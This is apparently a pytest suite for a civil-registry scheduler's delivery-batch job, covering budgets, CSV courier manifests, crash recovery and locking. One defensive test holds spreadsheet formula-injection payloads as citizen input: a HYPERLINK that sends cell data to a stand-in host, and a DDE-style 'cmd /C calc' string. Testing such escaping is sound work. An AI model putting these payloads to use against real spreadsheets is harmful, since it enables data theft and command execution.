"""dukcapil-scheduler delivery-batch: budget, manifests, crashes at every step."""

import csv
import io
import os
import stat

import pytest

from applications_helpers import GOOD_ADDRESS, application, drive
from helpers import http_for

from scheduler_fixtures import (  # noqa: F401
    KECAMATAN, clock_at, code, sched, sched_stack, seed_completed)

HEADER = ("batch_id,line,tracking_code,recipient_name,phone,street,rt_rw,"
          "kelurahan,kecamatan,city,postal_code,document")


def outbox_files(sched):
    """{name: bytes} of the outbox, temporary files included."""
    out = {}
    for name in sorted(os.listdir(sched.outbox)):
        with open(os.path.join(sched.outbox, name), "rb") as f:
            out[name] = f.read()
    return out


def batched_codes(sched):
    return sorted(r[0] for r in sched.sql(
        "SELECT a.code FROM delivery d JOIN application a"
        " ON a.id = d.application_id"))


def manifest_codes(files):
    codes = []
    for body in files.values():
        rows = list(csv.reader(io.StringIO(body.decode())))
        codes += [r[2] for r in rows[1:]]
    return sorted(codes)


def test_budget_is_exact_and_a_new_period_starts_by_itself(sched):
    """A period is dates: on the last night of 2027 the budget of 10 is
    spent exactly and 15 wait; the next night is 1 January 2028, the first
    day of the next period (DAK is yearly, budget_period_start 01-01), whose
    budget is its own, with no change to the configuration."""
    seed_completed(sched, 25)
    cfg = sched.config(delivery__budget_total=10)

    r = sched.run("once", "delivery-batch", config=cfg,
                  env=clock_at("2027-12-31 01:00"))
    assert r.returncode == 0, r.stderr
    assert sched.value("SELECT count(*) FROM delivery") == 10
    assert sched.value("SELECT count(*) FROM application"
                       " WHERE status = 'batched'") == 10
    run = sched.runs("delivery-batch")[-1]
    assert run["outcome"] == "ok"
    assert run["counts"]["batched"] == 10
    assert run["counts"]["waiting"] == 15
    assert run["counts"]["budget_left"] == 0
    assert run["counts"]["budget_period"] == "2027-01-01..2027-12-31"
    assert "waiting=15" in r.stderr

    # the oldest completions went first
    assert batched_codes(sched) == sorted(code("P", i) for i in range(1, 11))
    # the period and the next one are rows, for the module's submissions
    assert sched.sql("SELECT starts::text, ends::text, amount"
                     " FROM delivery_period ORDER BY starts") == \
        [("2027-01-01", "2027-12-31", 10), ("2028-01-01", "2028-12-31", 10)]

    # spent: the same night again batches nothing
    r = sched.run("once", "delivery-batch", config=cfg,
                  env=clock_at("2027-12-31 23:59"))
    assert r.returncode == 0
    assert sched.value("SELECT count(*) FROM delivery") == 10

    # the next period starts by itself on its first day
    r = sched.run("once", "delivery-batch", config=cfg,
                  env=clock_at("2028-01-01 01:00"))
    assert r.returncode == 0, r.stderr
    assert sched.value("SELECT count(*) FROM delivery") == 20
    run = sched.runs("delivery-batch")[-1]
    assert run["counts"]["budget_period"] == "2028-01-01..2028-12-31"
    assert run["counts"]["budget_used"] == 10
    assert sched.value("SELECT count(*) FROM delivery_batch"
                       " WHERE budget_period = '2028-01-01'") > 0

    # every step is in the audit trail, as the scheduler, in Indonesian
    assert sched.value("SELECT count(*) FROM application_history"
                       " WHERE to_status = 'batched' AND actor = 'scheduler'"
                       " AND from_status = 'completed'"
                       " AND note LIKE 'Dokumen Anda masuk daftar kiriman"
                       " PT Pos (manifes %%).'") == 20


def test_per_night_cap_and_unconfirmed_kecamatan_wait(sched):
    seed_completed(sched, 9)
    sched.sql("UPDATE application SET kecamatan_code = NULL,"
              " kecamatan_needs_confirmation = true WHERE code = %s",
              (code("P", 1),))
    sched.sql("INSERT INTO application (code, service, nik, kk, name, phone,"
              " status, delivery_method, pickup_office, completed_at) VALUES"
              " (%s, 'ktp', '1471014101999999', '1471010101010001', 'X',"
              "  '+6281299999999', 'completed', 'pickup', 'mpp', now())",
              (code("P", 999),))
    cfg = sched.config(delivery__per_night_cap=5)
    r = sched.run("once", "delivery-batch", config=cfg)
    assert r.returncode == 0, r.stderr
    assert batched_codes(sched) == sorted(code("P", i) for i in range(2, 7))
    counts = sched.runs()[-1]["counts"]
    assert counts["waiting"] == 4 and counts["waiting_kecamatan"] == 1


def test_manifests_by_kecamatan_in_batches_of_batch_size(sched):
    seed_completed(sched, 14, kecamatan=KECAMATAN[0])
    seed_completed(sched, 3, start=101, kecamatan=KECAMATAN[2])
    r = sched.run("once", "delivery-batch",
                  config=sched.config(delivery__batch_size=5))
    assert r.returncode == 0, r.stderr
    files = outbox_files(sched)
    names = sorted(files)
    assert len(names) == 4                      # 5 + 5 + 4, and 3
    assert all(n.startswith("manifest-") and n.endswith(".csv") for n in names)
    assert [n.split("-")[2] for n in names] == ["147101"] * 3 + ["147108"]

    first = files[names[0]].decode()
    lines = first.split("\r\n")
    assert lines[0] == HEADER and lines[-1] == ""
    rows = list(csv.reader(io.StringIO(first)))[1:]
    assert len(rows) == 5
    batch_id = names[0][len("manifest-"):-len(".csv")]
    assert all(r[0] == batch_id for r in rows)
    assert [r[1] for r in rows] == ["1", "2", "3", "4", "5"]
    row = rows[0]
    assert row[2] == code("P", 1)
    assert row[3] == 'Warga, "Nomor" 1'          # quoted as RFC 4180 wants
    assert row[4] == "+6281200000001"
    assert row[6] == "001/002" and row[8] == "Sukajadi"
    assert row[9] == "Pekanbaru" and row[10] == "28126"
    assert row[11] == "Kartu Keluarga"           # service of P-...-0001: kk
    assert manifest_codes(files) == batched_codes(sched)
    assert sched.value("SELECT count(*) FROM delivery_batch"
                       " WHERE manifest_written_at IS NULL") == 0


def test_dry_run_prints_the_plan_and_writes_nothing(sched):
    seed_completed(sched, 7)
    r = sched.run("once", "delivery-batch", "--dry-run",
                  config=sched.config(delivery__budget_total=5))
    assert r.returncode == 0, r.stderr
    assert "would batch 5, leaving 2 waiting" in r.stdout
    assert sched.value("SELECT count(*) FROM delivery") == 0
    assert sched.value("SELECT count(*) FROM scheduler_run") == 0
    assert outbox_files(sched) == {}


def test_lost_manifest_is_written_again_byte_for_byte(sched):
    seed_completed(sched, 10)
    cfg = sched.config()
    assert sched.run("once", "delivery-batch", config=cfg).returncode == 0
    before = outbox_files(sched)
    lost = sorted(before)[1]
    os.unlink(os.path.join(sched.outbox, lost))
    r = sched.run("once", "delivery-batch", config=cfg)
    assert r.returncode == 0, r.stderr
    assert sched.runs()[-1]["counts"]["manifests_written"] == 1
    assert outbox_files(sched) == before


def test_a_manifest_lost_after_its_retention_stays_lost(sched):
    """A manifest handed over longer ago than manifest_retention_days and
    deleted since is not written again; a younger one is."""
    seed_completed(sched, 10)
    cfg = sched.config()
    assert sched.run("once", "delivery-batch", config=cfg).returncode == 0
    old, young = sorted(outbox_files(sched))[:2]
    sched.sql("UPDATE delivery_batch SET manifest_written_at = now()"
              " - interval '31 days' WHERE code = %s",
              (old[len("manifest-"):-len(".csv")],))
    sched.sql("UPDATE delivery_batch SET manifest_written_at = now()"
              " - interval '29 days' WHERE code = %s",
              (young[len("manifest-"):-len(".csv")],))
    for name in (old, young):
        os.unlink(os.path.join(sched.outbox, name))

    r = sched.run("once", "delivery-batch", config=cfg)
    assert r.returncode == 0, r.stderr
    assert sched.runs()[-1]["counts"]["manifests_written"] == 1
    files = outbox_files(sched)
    assert young in files and old not in files


FORMULAS = {
    "name": '=HYPERLINK("http://x.invalid/?d="&A1,"Klik di sini")',
    "street": "@SUM(1+1)*cmd|' /C calc'!A0 Jl. Melur No. 5",
    "kelurahan": "Simpang Baru",
}


def test_a_formula_a_citizen_wrote_reaches_the_courier_as_text(sched):
    """A name and a street that a spreadsheet would run as formulas, submitted
    through the API, stand in the manifest behind an apostrophe and are
    otherwise what the citizen wrote; the manifest is not world-readable."""
    if not sched.st.nginx_running():
        sched.st.start_nginx()
    http = http_for(sched.st)
    body = application(7001, address=dict(GOOD_ADDRESS,
                                           street=FORMULAS["street"]),
                       name=FORMULAS["name"])
    r = http.post("/api/v1/applications", body)
    assert r.status == 201, r
    drive(http.ops, r.json()["code"], ["verified", "processing", "completed"])

    result = sched.run("once", "delivery-batch", config=sched.config())
    assert result.returncode == 0, result.stderr
    (name, body), = outbox_files(sched).items()
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows[0] == HEADER.split(",")
    row = dict(zip(rows[0], rows[1]))
    assert row["recipient_name"] == "'" + FORMULAS["name"]
    assert row["street"] == "'" + FORMULAS["street"]
    assert row["phone"].startswith("+62")       # a number, left as it is
    assert row["kelurahan"] == FORMULAS["kelurahan"]
    mode = stat.S_IMODE(os.stat(os.path.join(sched.outbox, name)).st_mode)
    assert mode & 0o007 == 0 and mode & 0o640 == 0o640, oct(mode)


CRASH_POINTS = ["after_run_claim", "after_claim", "after_commit",
                "mid_manifest", "after_rename", "after_manifests"]


@pytest.fixture(scope="module")
def reference_outbox(sched_stack):
    """The manifests and batches of a run without a crash."""
    sched_stack.reset()
    seed_completed(sched_stack, 23)
    r = sched_stack.run("once", "delivery-batch", config=sched_stack.config())
    assert r.returncode == 0, r.stderr
    batches = sched_stack.sql("SELECT code, item_count FROM delivery_batch"
                              " ORDER BY code")
    return outbox_files(sched_stack), batches


@pytest.mark.parametrize("point", CRASH_POINTS)
def test_crash_at_every_step_batches_once_and_loses_nothing(
        sched, reference_outbox, point):
    ref_files, ref_batches = reference_outbox
    sched.reset()
    seed_completed(sched, 23)
    cfg = sched.config()

    r = sched.run("once", "delivery-batch", config=cfg,
                  env={"DK_CRASH_AT": point})
    assert r.returncode == -9, (r.returncode, r.stderr)
    assert "crash_point point=%s" % point in r.stderr

    r = sched.run("once", "delivery-batch", config=cfg)
    assert r.returncode == 0, r.stderr

    # every eligible application exactly once, in a complete manifest
    assert sched.value("SELECT count(*) FROM application"
                       " WHERE status = 'completed'") == 0
    assert sched.value("SELECT count(*) FROM delivery") == 23
    assert sched.value("SELECT count(*) FROM application_history"
                       " WHERE to_status = 'batched'") == 23
    files = outbox_files(sched)
    assert not [n for n in files if n.endswith(".tmp")]
    assert manifest_codes(files) == batched_codes(sched)
    assert files == ref_files
    assert sched.sql("SELECT code, item_count FROM delivery_batch"
                     " ORDER BY code") == ref_batches

    # the crashed run is recorded as failed, the rerun as ok
    runs = sched.runs("delivery-batch")
    assert [r["outcome"] for r in runs] == ["failed", "ok"]
    assert "died" in runs[0]["error"]


def test_once_exits_75_while_the_job_runs_elsewhere(sched):
    conn = sched.db()
    try:
        with conn.cursor() as c:
            c.execute("SELECT pg_advisory_lock(17483, 1)")   # delivery-batch
        r = sched.run("once", "delivery-batch", config=sched.config())
        assert r.returncode == 75
        assert "running elsewhere" in r.stderr
        assert sched.runs() == []
        # another job is not held up
        r = sched.run("once", "reconcile", config=sched.config())
        assert r.returncode == 0, r.stderr
    finally:
        conn.close()
